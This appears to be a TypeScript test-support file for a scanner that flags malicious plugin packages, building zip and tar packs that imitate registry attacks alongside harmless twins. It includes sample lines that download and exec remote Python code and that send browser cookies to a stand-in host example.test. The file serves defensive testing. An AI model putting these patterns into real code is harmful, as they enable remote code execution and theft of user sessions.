import { buildZip, type EntrySpec } from '../archive/zip-builder.test-support.ts'

/**
 * Small packs that imitate attacks reported on package registries, each with a harmless twin that does
 * something similar for a good reason. They are inert: every host is `example.test`, every payload is empty.
 */
export interface Attack {
  /** The technique, as the rest of a sentence. */
  name: string
  files: Readonly<Record<string, string | Uint8Array>>
  twin: Readonly<Record<string, string | Uint8Array>>
}

/** Builds an attack that needs only one file, as most do. */
export function python(name: string, attack: string, twin: string): Attack {
  return { name, files: { '__init__.py': attack }, twin: { '__init__.py': twin } }
}

export function script(name: string, attack: string, twin: string): Attack {
  const init = 'WEB_DIRECTORY = "./web"\nNODE_CLASS_MAPPINGS = {}\n'
  return {
    name,
    files: { '__init__.py': init, 'web/main.js': attack },
    twin: { '__init__.py': init, 'web/main.js': twin },
  }
}

export const payload = 'cHJpbnQoMSk='

export const bytes = (...values: number[]) =>
  Uint8Array.from([...values, ...Array.from({ length: 300 }, () => 0)])

/** A function long enough to be left out unless something in it is telling. */
export const longFunction = (call: string, indent = '') =>
  `def go():\n${'    y = [n * n for n in range(10)]\n'.repeat(20)}    ${call}`.replace(/^/gm, indent)

export const evil = 'import requests\nexec(requests.get("https://example.test/x").text)\n'
export const kind = 'import requests\nprint(requests.get("https://example.test/x").text)\n'
export const zipOf = (name: string, data: string, more: Partial<EntrySpec> = {}) =>
  buildZip({ entries: [{ name, data, ...more }] })

export function tarOf(name: string, data: string): Uint8Array {
  const header = Buffer.alloc(512)
  header.write(name, 0, 'latin1')
  header.write(data.length.toString(8).padStart(11, '0'), 124, 'latin1')
  header.write('ustar', 257, 'latin1')
  const body = Buffer.alloc(Math.ceil(data.length / 512) * 512)
  body.write(data, 'latin1')
  return Buffer.concat([header, body, Buffer.alloc(1024)])
}

/** Builds a pack with a page or a picture in addition to its scripts. */
export function page(name: string, path: string, attack: string, twin: string): Attack {
  const init = 'WEB_DIRECTORY = "./web"\nNODE_CLASS_MAPPINGS = {}\n'
  return {
    name,
    files: { '__init__.py': init, [path]: attack },
    twin: { '__init__.py': init, [path]: twin },
  }
}

export const theft = 'fetch("https://example.test/?c=" + document.cookie)'
export const ownRequest = 'fetch("/api/x")'
